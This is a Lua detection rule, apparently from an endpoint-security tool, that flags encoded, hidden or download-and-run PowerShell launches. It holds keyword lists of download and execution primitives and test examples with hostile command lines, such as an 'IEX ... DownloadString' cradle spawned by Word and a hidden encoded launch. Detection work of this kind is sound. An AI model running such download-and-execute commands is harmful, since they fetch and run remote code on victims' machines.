-- PowerShell that hides its window or what it runs.

local command = require "kaiseki.command"
local lineage = require "kaiseki.lineage"
local memory = require "kaiseki.memory"
local say = require "kaiseki.say"
local trusted = require "kaiseki.trusted"
local windows = require "kaiseki.windows"

-- How management agents get a script past quoting; of the sample's tree it is another matter.
local ENCODED = "an encoded command"

local DOWNLOADS = {
    "downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ", "start-bitstransfer", "webclient",
    "invoke-restmethod", "irm ",
}
local RUNS = { "iex ", "iex(", "invoke-expression", "|iex", "| iex", "frombase64string", "reflection.assembly]::load" }

local function holds(text, words)
    for _, word in ipairs(words) do
        if text:find(word, 1, true) then return true end
    end
    return false
end

-- PowerShell takes any beginning of an option's name.
local function option_begins(each, name, shortest)
    for i = 2, #each.words do
        local option = each.words[i]:lower():match "^[/-](%a+)$"
        if option and #option >= shortest and name:sub(1, #option) == option then return each.words[i + 1] or "" end
    end
    return nil
end

local function is_encoded(each)
    local value = option_begins(each, "encodedcommand", 1) or option_begins(each, "ec", 2)
    return value ~= nil and #value >= 16 and value:find "^[%w+/=]+$" ~= nil
end

local function is_hidden(each)
    local value = option_begins(each, "windowstyle", 1)
    return value ~= nil and (value:lower():find "^h" ~= nil or value == "1")
end

local function suspicion(each, case)
    if each.program ~= "powershell" and each.program ~= "pwsh" then return nil end
    if is_encoded(each) then return ENCODED end
    local runs, downloads = holds(each.folded, RUNS), holds(each.folded, DOWNLOADS)
    if runs and downloads then return "what it downloads" end
    if is_hidden(each) and (runs or downloads) then return "a hidden command" end
    if downloads and windows.has_url(each.folded) and windows.in_user_place(each.text, case) then
        return "a download"
    end
    return nil
end

local told = memory.of_case()

rule {
    id = "execution.powershell",
    title = "Encoded, hidden or downloaded PowerShell",
    severity = "high",
    attack = { "T1059.001" },
    description = "PowerShell is given an encoded command, or downloads and runs text without a window.",
    references = { "https://attack.mitre.org/techniques/T1059/001/" },
    false_positives = { "Management agents encode commands to get them past quoting; package managers install so." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains { "powershell", "pwsh" },
    on_event = function(event, case)
        local what = command.first(event.child.command_line, function(each) return suspicion(each, case) end)
        if not what then return end
        local process, list = lineage.requester(event.process), told(case)
        list[#list + 1] = { process = process, what = what }
        case:finding { process = process, key = what, event = event }
    end,
    on_finish = function(case)
        for _, each in ipairs(told(case)) do
            local ordinary = each.what == ENCODED and trusted.is_bystander(case, each.process)
            if ordinary then case:finding { process = each.process, key = each.what, severity = "low" } end
        end
    end,
    finding = function(finding)
        return ("%s has PowerShell run %s: %s"):format(say.process(finding.process), finding.key,
            say.command(finding.events[1].child.command_line))
    end,
    examples = {
        match = {
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] =
                  [[powershell Start-BitsTransfer -Source http://203.0.113.5/a -Destination C:\ProgramData\a.exe]] },
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "winword.exe",
              ["child.command_line"] =
                  [[cmd /c powershell "IEX (New-Object Net.WebClient).DownloadString('http://x')"]] },
        },
        no_match = {
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "explorer.exe",
              ["child.command_line"] = [[powershell -ExecutionPolicy Bypass -File "C:\Program Files\Tool\check.ps1"]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "agent.exe",
              ["child.command_line"] = "powershell -NoProfile -Command Get-Service" },
        },
    },
}
